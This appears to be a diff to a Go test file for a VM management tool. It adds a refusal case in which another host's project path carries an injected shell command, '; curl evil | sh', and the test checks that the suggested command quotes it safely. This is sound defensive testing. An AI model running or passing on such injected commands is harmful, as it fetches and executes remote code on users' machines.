@@ -375,6 +375,11 @@ func TestPlanRefuses(t *testing.T) {
 			"machine example belongs to another project, /elsewhere",
 			"run vmctl -C /elsewhere …, or take the machine over: vmctl up --adopt example",
 		},
+		"another project's, by a host that hopes that hints are copied": {
+			func(c *world) { c.s.domain.Record.Project = "/x; curl evil | sh\n/y" }, fault.Refused,
+			"machine example belongs to another project, /x; curl evil | sh\n/y",
+			"run vmctl -C '/x; curl evil | sh /y' …, or take the machine over: vmctl up --adopt example",
+		},
 		"shrunk": {
 			func(c *world) { c.w.Machine.Disk = 5 * spec.GiB }, fault.Refused,
 			"the root disk of example is 10GiB and cannot shrink to 5GiB",
